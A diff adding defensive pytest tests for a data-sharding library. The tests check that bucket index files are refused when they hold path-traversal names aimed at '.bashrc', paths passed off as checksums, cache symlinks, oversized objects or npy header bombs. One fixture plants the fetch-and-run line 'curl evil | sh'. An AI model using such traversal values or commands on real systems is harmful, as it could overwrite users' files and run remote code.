@@ -1,0 +1,221 @@
+"""An index is what anybody who may write to the bucket has written: no name, number or checksum of it is believed."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+
+from must.base import storage
+from must.data.format.index import load_index, parse_index
+from must.data.format.samples import load_offsets
+from must.data.loading.cache import ShardCache
+from must.data.loading.reader import open_reader
+from must.data.shards.history import History
+from must.data.shards.tarwriter import npy
+from tests import zoo
+from tests.data.shards.test_shard import run
+from tests.data.shards.test_shard_gcs import upload
+from tests.stores import Server, plant
+
+NAMES = ["/{home}/.bashrc", "../home/.bashrc", "a/../../home/.bashrc", "train-000000.tar/../../x", "", "x\0.npy", 7]
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("foreign")
+    zoo.fill(folder / "in", 12)
+    run(folder / "in", folder / "out", samples_per_shard=5)
+    return folder / "out"
+
+
+def edited(folder: Path | str, edit: Callable[[dict[str, Any]], object]) -> bytes:
+    path = storage.join(folder, "index.json")
+    content = json.loads(storage.read_bytes(path))
+    edit(content)
+    return json.dumps(content).encode()
+
+
+def first(**values: object) -> Callable[[dict[str, Any]], object]:
+    return lambda content: content["shards"][0].update(values)
+
+
+EDITS: dict[str, tuple[Callable[[dict[str, Any]], object], str]] = {
+    **{f"shard {name!r}": (first(name=name), "is not a valid shard name") for name in NAMES},
+    **{
+        f"table {name!r}": (lambda c, name=name: c["tables"][0].update(name=name), "is not a valid table name")
+        for name in NAMES
+    },
+    "sha256 that is a path": (first(sha256="/home/backup/photos"), "is not a sha256"),
+    "sha256 in capitals": (first(sha256="A" * 64), "is not a sha256"),
+    "sha256 with a line break": (first(sha256="a" * 64 + "\n"), "is not a sha256"),
+    "offsets' sha256": (first(offsets_sha256="../x"), "is not a sha256"),
+    "a table's sha256": (lambda c: c["tables"][0].update(sha256=""), "is not a sha256"),
+    "negative bytes": (first(bytes=-1), "bytes must be a non-negative integer"),
+    "bytes as a float": (first(bytes=1e300), "bytes must be a non-negative integer"),
+    "too many samples": (first(samples=2**70), "samples must be a non-negative integer"),
+    "a truth value": (first(labelled=True), "labelled must be a non-negative integer"),
+    "another split's name": (first(name="test-000000.tar"), "is of another split"),
+    "a shard twice": (lambda c: c["shards"].append(c["shards"][0]), "is listed twice"),
+    "an unknown field": (first(path="/etc"), "unexpected keyword"),
+    "a split as a path": (
+        lambda c: c["splits"].update({"../x": {"samples": 0, "labelled": 0}}),
+        "not a valid split name",
+    ),
+    "counts that do not add up": (lambda c: c["splits"]["train"].update(samples=11), "do not add up"),
+    "labels as numbers": (lambda c: c.update(labels=[1]), "a label is not text"),
+    "a negative revision": (lambda c: c.update(revision=-1), "revision must be a non-negative integer"),
+    "more units than there can be": (lambda c: c.update(units=2**40), "units must be below"),
+    "a source without uri": (lambda c: c.update(source={}), "KeyError: .*uri"),
+    "settings as a list": (lambda c: c.update(settings=[]), "TypeError"),
+    "no limit of pixels": (lambda c: c["settings"].update(max_pixels=0), "max_pixels is 0"),
+}
+
+
+@pytest.mark.parametrize("name", EDITS)
+def test_what_no_index_of_ours_holds_is_refused_in_one_line(made: Path, name: str) -> None:
+    edit, message = EDITS[name]
+    with pytest.raises(ValueError, match=message) as error:
+        parse_index(edited(made, edit), "gs://b/index.json")
+    text = str(error.value)
+    assert text.startswith("gs://b/index.json is damaged") and text.isprintable() and len(text) < 400
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"\xff", b"[]", b"7", b'"version"', b"[" * 200_000, b'{"version": [[1]]}', b'{"version": 1}']
+)
+def test_what_is_no_index_at_all_is_refused_in_one_line(data: bytes) -> None:
+    with pytest.raises(ValueError, match=r"^index\.json (is damaged|has version)") as error:
+        parse_index(data, "index.json")
+    assert str(error.value).isprintable()
+
+
+@pytest.mark.parametrize("name", ["{home}/.bashrc", "../home/.bashrc"])
+def test_a_table_of_a_bucket_cannot_be_written_elsewhere(
+    bucket_server: Server, made: Path, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Through `must shard --append` from end to end: the name was joined to a local folder, and the object exists."""
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
+    upload(made, bucket_server.uri)
+    evil = name.format(home=home)
+    plant(bucket_server.uri + "/" + evil, b"curl evil | sh\n")
+    data = edited(bucket_server.uri, lambda c: c.update(tables=[{"name": evil, "sha256": "0" * 64}]))
+    storage.write_bytes(bucket_server.uri + "/index.json", data)
+    zoo.fill(tmp_path / "new", 3, start=100)
+    with pytest.raises(ValueError, match="not a valid table name"):
+        run(tmp_path / "new", bucket_server.uri, append=True)
+    assert not any(home.iterdir()) and not list(tmp_path.glob("**/.bashrc"))
+
+
+def test_a_sha256_that_is_a_path_deletes_nothing(bucket_server: Server, made: Path, tmp_path: Path) -> None:
+    (tmp_path / "photos.tar").write_bytes(b"mine")
+    (tmp_path / "photos.part").write_bytes(b"mine too")
+    upload(made, bucket_server.uri)
+    data = edited(bucket_server.uri, first(sha256=str(tmp_path / "photos")))
+    storage.write_bytes(bucket_server.uri + "/index.json", data)
+    with pytest.raises(ValueError, match="is not a sha256"):
+        open_reader(bucket_server.uri, "train", str(tmp_path / "cache"), 1.0).image(0)
+    assert (tmp_path / "photos.tar").read_bytes() == b"mine"
+    assert (tmp_path / "photos.part").read_bytes() == b"mine too"
+
+
+def test_a_link_in_the_cache_is_not_followed(made: Path, tmp_path: Path) -> None:
+    shard, cache = load_index(str(made)).shards[0], ShardCache(tmp_path / "cache", 10**9)
+    (tmp_path / "thesis").write_bytes(b"mine")
+    (cache.folder / f"{shard.sha256}.part").symlink_to(tmp_path / "thesis")
+    with pytest.raises(OSError, match="symbolic links"):
+        cache.open(str(made), shard)
+    assert (tmp_path / "thesis").read_bytes() == b"mine"
+
+
+def test_an_object_longer_than_its_index_says_takes_no_more_room(
+    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shard, cache, seen = load_index(str(made)).shards[0], ShardCache(tmp_path / "cache", 10**9), []
+
+    def endless(uri: str, file: storage.Writable) -> None:
+        for _ in range(1000):
+            file.write(bytes(shard.bytes))
+        seen.append(next(cache.folder.glob("*.part")).stat().st_size)
+
+    monkeypatch.setattr(storage, "copy", endless)
+    with pytest.raises(ValueError, match="has changed"):
+        cache.open(str(made), shard)
+    assert set(seen) == {shard.bytes}
+
+
+def append_table(folder: Path, name: str, data: bytes, sha256: str = "") -> None:
+    """Puts other bytes into the table `name`; the index says so, unless another checksum is given."""
+    (folder / name).write_bytes(data)
+    sha256 = sha256 or hashlib.sha256(data).hexdigest()
+    path = folder / "index.json"
+    path.write_bytes(edited(folder, lambda c: [t.update(sha256=sha256) for t in c["tables"] if t["name"] == name]))
+
+
+@pytest.mark.parametrize(
+    ("data", "sha256"),
+    [
+        (npy(np.zeros((12, 2), np.uint64)), "0" * 64),
+        (npy(np.zeros((12, 2), np.float64)), ""),
+        (npy(np.zeros(12, np.uint64)), ""),
+        (npy(np.zeros((12, 2), np.uint64))[:200], ""),
+        (b"\x93NUMPY\x01\x00" + b"v\x00" + b"(" * 118, ""),
+        (b"PK\x03\x04", ""),
+        (b"", ""),
+    ],
+    ids=["other bytes", "floats", "one dimension", "cut", "a header of brackets", "zip", "empty"],
+)
+def test_a_table_is_compared_and_read_with_suspicion(made: Path, tmp_path: Path, data: bytes, sha256: str) -> None:
+    upload(made, str(tmp_path / "out"))
+    append_table(tmp_path / "out", "names-0000.npy", data, sha256)
+    index = load_index(str(tmp_path / "out"))
+    with pytest.raises(ValueError, match=r"names-0000\.npy is missing or damaged; without it --append"):
+        History(str(tmp_path / "out"), index, tmp_path)
+
+
+def test_a_table_of_contents_of_another_length_is_refused(made: Path, tmp_path: Path) -> None:
+    upload(made, str(tmp_path / "out"))
+    append_table(tmp_path / "out", "contents-0000.npy", npy(np.zeros((3, 32), np.uint8)))
+    with pytest.raises(ValueError, match="of another number of images"):
+        History(str(tmp_path / "out"), load_index(str(tmp_path / "out")), tmp_path)
+
+
+@pytest.mark.parametrize("row", [(-512, 10, 0, 1), (512, 2**62, 0, 1), (2**62, 10, 0, 1), (0, 1, 2**62, 2**62)])
+def test_offsets_that_point_out_of_the_shard_are_refused(made: Path, tmp_path: Path, row: tuple[int, ...]) -> None:
+    upload(made, str(tmp_path / "out"))
+    table = load_offsets(str(made), load_index(str(made)).shards[0]).copy()
+    table[2] = row
+    (tmp_path / "out" / "train-000000.npy").write_bytes(npy(table))
+    data = edited(made, first(offsets_sha256=hashlib.sha256(npy(table)).hexdigest()))
+    (tmp_path / "out" / "index.json").write_bytes(data)
+    with pytest.raises(ValueError, match="points past the end of train-000000"):
+        load_offsets(str(tmp_path / "out"), load_index(str(tmp_path / "out")).shards[0])
+
+
+@pytest.mark.parametrize("size", [2**52, 1000])
+def test_a_shard_of_another_size_than_the_index_says_is_not_read(made: Path, tmp_path: Path, size: int) -> None:
+    upload(made, str(tmp_path / "out"))
+    table = load_offsets(str(made), load_index(str(made)).shards[0]).copy()
+    table[:] = (0, size // 2, 0, size // 2)
+    (tmp_path / "out" / "train-000000.npy").write_bytes(npy(table))
+    data = edited(made, first(bytes=size, offsets_sha256=hashlib.sha256(npy(table)).hexdigest()))
+    (tmp_path / "out" / "index.json").write_bytes(data)
+    with pytest.raises(ValueError, match=rf"train-000000\.tar: is (truncated|too long): \d+ bytes, .* says {size};"):
+        open_reader(str(tmp_path / "out"), "train").image(0)
+
+
+def test_a_header_that_promises_more_than_there_is_costs_no_memory(made: Path, tmp_path: Path) -> None:
+    upload(made, str(tmp_path / "out"))
+    data = npy(np.zeros((5, 4), np.int64)).replace(b"(5, 4)", b"(9999999999, 4)").replace(b"         \n", b"\n")
+    (tmp_path / "out" / "train-000000.npy").write_bytes(data)
+    index = edited(made, first(offsets_sha256=hashlib.sha256(data).hexdigest()))
+    (tmp_path / "out" / "index.json").write_bytes(index)
+    with pytest.raises(ValueError, match=r"no \.npy file"):
+        load_offsets(str(tmp_path / "out"), load_index(str(tmp_path / "out")).shards[0])
